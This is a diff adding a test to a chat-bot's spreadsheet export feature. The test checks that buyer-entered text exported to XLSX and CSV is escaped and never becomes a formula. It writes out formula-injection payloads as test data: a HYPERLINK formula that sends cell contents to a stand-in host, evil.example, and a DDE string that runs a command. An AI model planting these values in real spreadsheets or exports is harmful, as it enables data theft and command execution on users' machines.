@@ -1,4 +1,4 @@
-"""/export memos|requests|products: files that open in a spreadsheet and hold the right rows."""
+"""/export memos|requests|products: files that open in a spreadsheet and hold the right rows, and never a formula."""
 
 from __future__ import annotations
 
@@ -13,6 +13,9 @@ from models.audit import AuditLog
 from models.catalog_import import import_rows
 from models.db import Database
 from models.exports import MEMO_COLUMNS, REQUEST_COLUMNS
+from models.memos import Memo
+from models.people import BuyerProfile
+from models.requests import ContactRequest
 from models.tabular import read_bytes
 from tests.chat import NO_BUTTONS, ChatUser
 from tests.test_stats import known_dataset
@@ -99,3 +102,37 @@ async def test_export_words_in_vietnamese_and_bad_ones(sqlite_db: Database) -> N
     assert office.last.startswith("Xuất dữ liệu nào?")
     await office.taps("xp:memos:pdf")
     assert "không còn hiệu lực" in office.last
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?p="&Q2,"Bấm vào đây")'
+
+
+async def test_what_buyers_type_never_becomes_a_formula(sqlite_db: Database) -> None:
+    office = await known_dataset(sqlite_db)
+    async with sqlite_db.transaction() as session:
+        request = await session.get(ContactRequest, 1)
+        memo = (await session.exec(select(Memo).where(Memo.request_id == 1))).one()
+        profile = (await session.exec(select(BuyerProfile))).first()
+        assert request is not None and profile is not None
+        request.message, request.season = FORMULA, "@SUM(A1:A9)"
+        memo.message, memo.volume = "Cần\x0b gấp\x00", "-500"  # a vertical tab would abort the whole XLSX
+        memo.buyer_company = "=cmd|' /C calc'!A0"
+        profile.company = "+Siêu thị\tXanh"
+
+    await office.says("/export requests xlsx")
+    sheet = load_workbook(io.BytesIO(attachment(office).data)).active  # not read-only: cell types are kept
+    header = [cell.value for cell in sheet[1]]
+    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    assert (first["message"].data_type, first["message"].value) == ("s", "'" + FORMULA)
+    assert first["season"].value == "'@SUM(A1:A9)" and first["buyer_company"].value == "'+Siêu thị\tXanh"
+    assert first["id"].value == 1 and first["response_hours"].value == 2  # numbers stay numbers
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+    await office.says("/export requests csv")
+    rows = list(csv.DictReader(io.StringIO(attachment(office).data.decode("utf-8-sig"))))
+    assert (rows[0]["message"], rows[0]["season"]) == ("'" + FORMULA, "'@SUM(A1:A9)")
+
+    await office.says("/export memos")
+    memos = xlsx_rows(attachment(office).data)
+    assert (memos[0]["message"], memos[0]["volume"]) == ("Cần gấp", "'-500")
+    assert memos[0]["buyer_company"] == "'=cmd|' /C calc'!A0"
